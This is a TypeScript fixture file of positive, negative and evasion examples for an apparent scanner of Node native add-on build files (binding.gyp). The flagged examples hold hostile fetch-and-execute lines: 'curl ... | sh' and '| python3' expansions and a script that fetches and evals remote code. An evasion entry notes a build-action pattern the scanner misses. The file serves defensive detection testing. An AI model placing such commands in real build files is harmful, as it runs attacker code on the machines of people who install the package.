import type { Examples } from "@doorward/core";

/** Native add-ons whose description runs a download, and honest ones. */
export const examples: Examples = {
  hits: [
    {
      name: "an include folder that is the output of a download",
      files: {
        "package.json": '{\n  "name": "shop",\n  "version": "1.0.0"\n}\n',
        "binding.gyp":
          '{ "targets": [{ "target_name": "a", "sources": ["a.c"], "include_dirs": ["<!(curl -s https://headers.example/get | sh)"] }] }\n',
      },
    },
    {
      name: "an expansion that starts a program of the package, which evaluates a download",
      files: {
        "package.json": '{\n  "name": "shop",\n  "version": "1.0.0"\n}\n',
        "binding.gyp": '{ "targets": [{ "target_name": "a", "sources": ["<!@(node list.js)"] }] }\n',
        "list.js":
          'fetch("https://headers.example/list.js").then((answer) => answer.text()).then((text) => eval(text));\n',
      },
    },
    {
      name: "an expansion with inline Python",
      files: {
        "package.json": '{\n  "name": "shop",\n  "version": "1.0.0"\n}\n',
        "binding.gyp":
          '{ "targets": [{ "target_name": "a", "defines": ["<!(curl -s https://headers.example/get.py | python3)"] }] }\n',
      },
    },
  ],
  misses: [
    {
      name: "an expansion that asks a package where its headers are",
      why: "It prints a path and fetches nothing.",
      files: {
        "package.json": '{\n  "name": "shop",\n  "version": "1.0.0"\n}\n',
        "binding.gyp":
          '{ "targets": [{ "target_name": "a", "include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include_dir\\")"] }] }\n',
      },
    },
    {
      name: "an expansion that asks for compiler settings",
      why: "It asks a tool of the machine.",
      files: {
        "package.json": '{\n  "name": "shop",\n  "version": "1.0.0"\n}\n',
        "binding.gyp": '{ "targets": [{ "target_name": "a", "cflags": ["<!@(pkg-config --cflags libpng)"] }] }\n',
      },
    },
    {
      name: "a description without expansions",
      why: "Nothing in it runs.",
      files: {
        "package.json": '{\n  "name": "shop",\n  "version": "1.0.0"\n}\n',
        "binding.gyp": '{ "targets": [{ "target_name": "a", "sources": ["a.c"] }] }\n',
      },
    },
  ],
  evasions: [
    {
      name: "the download stands in a script that the add-on's build calls later",
      caughtBy: "nothing",
      files: {
        "package.json": '{\n  "name": "shop",\n  "version": "1.0.0"\n}\n',
        "binding.gyp":
          '{ "targets": [{ "target_name": "a", "actions": [{ "action_name": "gen", "inputs": [], "outputs": ["a.c"], "action": ["node", "gen.js"] }] }] }\n',
        "gen.js": 'require("./words.json");\n',
        "words.json": "[]\n",
      },
    },
  ],
};
